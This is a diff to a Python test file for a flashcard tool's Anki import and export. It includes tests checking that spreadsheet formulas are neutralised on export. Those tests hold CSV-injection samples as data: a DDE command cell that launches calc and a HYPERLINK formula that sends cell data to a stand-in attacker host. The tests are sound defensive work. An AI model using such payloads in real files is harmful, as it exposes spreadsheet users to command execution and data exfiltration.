@@ -63,14 +63,15 @@ def test_anki_text_export(tmp_path: Path) -> None:
     basic, reverse = by_name["Parent::Child"].notes
     assert basic.guid == "anki-" + b"iUDR9qlX{>".hex()
     assert basic.fields == {"front": "Q <b>bold</b>", "back": "A & B\nline2"}
-    assert basic.tags == ("a_b", "t1")
+    assert basic.tags == ("a#b", "t1")  # Anki's tags as they are
     assert reverse.kind == "qa_reversed"
     (cloze,) = by_name["Other"].notes
     assert cloze.kind == "cloze" and cloze.fields == {
         "text": "{{c1::Paris}} is in {{c2::France}}",
         "why": "geo",
     }
-    assert decks[0].warnings == [f"{tmp_path}/notes.txt:7: row 1: tag 'a#b' imported as 'a_b'"]
+    assert decks[0].warnings == []
+    assert all(d.from_anki for d in decks)  # notes follow Anki's decks
 
 
 def test_anki_optional_reverse_and_unused_fields(tmp_path: Path) -> None:
@@ -83,8 +84,8 @@ def test_anki_optional_reverse_and_unused_fields(tmp_path: Path) -> None:
     deck = csv_deck.parse(write(tmp_path, data, "n.txt"), ParseOptions("tsv"))[0]
     assert [n.kind for n in deck.notes] == ["qa_reversed", "qa", "qa"]
     assert deck.warnings == [
-        f"{tmp_path}/n.txt:6: row 3: field 3 of note type 'Basic' has no place in a pmcards "
-        "'qa' note: not kept"
+        f"{tmp_path}/n.txt: note type 'Basic': field 3 has no place in a pmcards note: not kept "
+        "(line 6)"
     ]
 
 
@@ -157,6 +158,76 @@ def test_errors_name_file_and_row(tmp_path: Path, data: str, message: str) -> No
     assert str(info.value).replace(str(tmp_path) + "/", "").startswith(message)
 
 
+def test_anki_column_labels_pmcards_does_not_know_are_labels(tmp_path: Path) -> None:
+    data = "#separator:Comma\n#html:false\n#columns:Front,Back,Colour,Page\nq,a,red,12\nq2,a2,,\n"
+    deck = csv_deck.parse(write(tmp_path, data))[0]
+    assert [n.fields for n in deck.notes] == [
+        {"front": "q", "back": "a"},
+        {"front": "q2", "back": "a2"},
+    ]
+    assert deck.warnings == [
+        f"{tmp_path}/deck.csv: column 'Colour': pmcards has no place for it: its cells are not imported",
+        f"{tmp_path}/deck.csv: column 'Page': pmcards has no place for it: its cells are not imported",
+    ]
+
+
+def test_export_writes_ankis_header_lines_and_reads_back(tmp_path: Path) -> None:
+    from datetime import UTC, datetime
+
+    from pmcards.exporters import exporter
+    from pmcards.formats.options import ExportOptions
+    from pmcards.store import Store
+
+    source = write(
+        tmp_path,
+        "id,deck,section,kind,tags,front,back,not,but,why\n"
+        'n1,Prep,Metrics,qa,C++ Q&A,"a < b","line\nbreak",,,because\n'
+        "n2,Prep,,reframe,,,,accuracy,tolerance,\n",
+    )
+    store = Store(f"sqlite:///{tmp_path / 'c.sqlite3'}")
+    now = datetime(2026, 3, 2, tzinfo=UTC)
+    with store.write() as conn:
+        importer.apply(conn, importer.parse_files([source]), now)
+    with store.read() as conn:
+        text = exporter("tsv")(conn, ExportOptions(format="tsv", now=now)).decode()
+    store.close()
+    lines = text.split("\r\n")
+    assert lines[:7] == [
+        "#separator:Tab",
+        "#html:true",
+        "#guid column:1",
+        "#notetype column:2",
+        "#deck column:3",
+        "#tags column:4",
+        "#columns:guid\tnotetype\tdeck\ttags\tAnki field 1\tAnki field 2\tkind\tsection"
+        "\tfront\tback\tnot\tbut\twhy",
+    ]
+    # Anki's side: a stock note type and its fields as HTML; then pmcards' own columns.
+    assert lines[7].split("\t")[:8] == [
+        '"n1"',
+        '"Basic"',
+        '"Prep"',
+        '"C++ Q&A"',
+        '"a &lt; b"',
+        '"line<br>break<div class=why>because</div>"',
+        '"qa"',
+        '"Metrics"',
+    ]
+    path = write(tmp_path, text, "back.tsv")
+    (deck,) = csv_deck.parse(path, ParseOptions("tsv"))
+    assert [(n.guid, n.kind, n.fields, n.tags, n.section) for n in deck.notes] == [
+        (
+            "n1",
+            "qa",
+            {"front": "a < b", "back": "line\nbreak", "why": "because"},
+            ("C++", "Q&A"),
+            "Metrics",
+        ),
+        ("n2", "reframe", {"not": "accuracy", "but": "tolerance"}, (), ""),
+    ]
+    assert deck.warnings == [] and not deck.from_anki
+
+
 def test_formulas_are_neutralised_and_restored(tmp_path: Path) -> None:
     # Issue 16: cells starting =, +, - or @ ran as formulas in a spreadsheet.
     import csv
@@ -197,10 +268,14 @@ def test_formulas_are_neutralised_and_restored(tmp_path: Path) -> None:
     cells = [cell for row in rows for cell in row]
     # What a spreadsheet would run: no cell starts with a formula character.
     assert [c for c in cells if c[:1] in ("=", "+", "-", "@")] == []
-    by_id = {row[0]: row for row in rows[1:]}
-    assert by_id["f1"][5] == "'" + fronts["f1"] and by_id["f1"][1] == "'=cmd|' /C calc'!A0"
-    assert by_id["f5"][5] == "''=already guarded" and by_id["f6"][5] == "'quoted, not a formula"
-    assert by_id["f7"][5] == "plain = fine"
+    # After Anki's header lines: guid, note type, deck, tags, Anki's two fields (HTML, the
+    # first character an entity), kind, section, then pmcards' fields (an apostrophe).
+    by_id = {row[0]: row for row in rows[7:]}
+    assert by_id["f1"][8] == "'" + fronts["f1"] and by_id["f1"][2] == "'=cmd|' /C calc'!A0"
+    assert by_id["f1"][4] == '&#61;HYPERLINK("https://evil.example/?"&amp;A1,"click")'
+    assert by_id["f3"][4] == "&#45;2 is a number" and by_id["f4"][4] == "&#64;SUM(A1:A9)"
+    assert by_id["f5"][8] == "''=already guarded" and by_id["f6"][8] == "'quoted, not a formula"
+    assert by_id["f7"][8] == "plain = fine" and by_id["f7"][4] == "plain = fine"
     path = write(tmp_path, data, "out.csv")
     (deck,) = csv_deck.parse(path)
     assert deck.name == "=cmd|' /C calc'!A0"
